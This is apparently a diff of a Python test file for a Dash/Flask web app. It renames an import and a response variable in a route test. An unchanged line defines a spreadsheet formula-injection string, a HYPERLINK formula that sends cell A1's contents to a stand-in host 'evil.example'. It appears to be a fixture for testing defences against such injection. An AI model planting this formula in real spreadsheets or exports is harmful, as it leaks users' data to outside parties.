@@ -18,7 +18,7 @@ from callbacks.context.visitor import EDITOR_COOKIE
 from geodata.cli.facts import main
 from geodata.store import Store
 from layers.themes.registry import THEMES
-from tests.routes.answers.test_desk import PAGE, bring_in
+from tests.routes.answers.test_page import PAGE, bring_in
 from tests.routes.published import Texts, app_with
 
 LINK = '=HYPERLINK("http://evil.example/?"&A1,"{}")'
@@ -139,9 +139,9 @@ def test_every_route_is_walked(app: Dash) -> None:
 def test_no_file_of_a_route_calculates(browser: FlaskClient, route: str) -> None:
     for address in ADDRESSES[route]:
         for data in ("survey-1", "own") if "{data}" in address else ("",):
-            answer = browser.get(address.format(data=data))
-            assert answer.status_code == 200, address
-            assert assert_calculates_nothing(answer.data) > 20, address
+            response = browser.get(address.format(data=data))
+            assert response.status_code == 200, address
+            assert assert_calculates_nothing(response.data) > 20, address
 
 
 def test_the_texts_are_there_as_they_were_written(
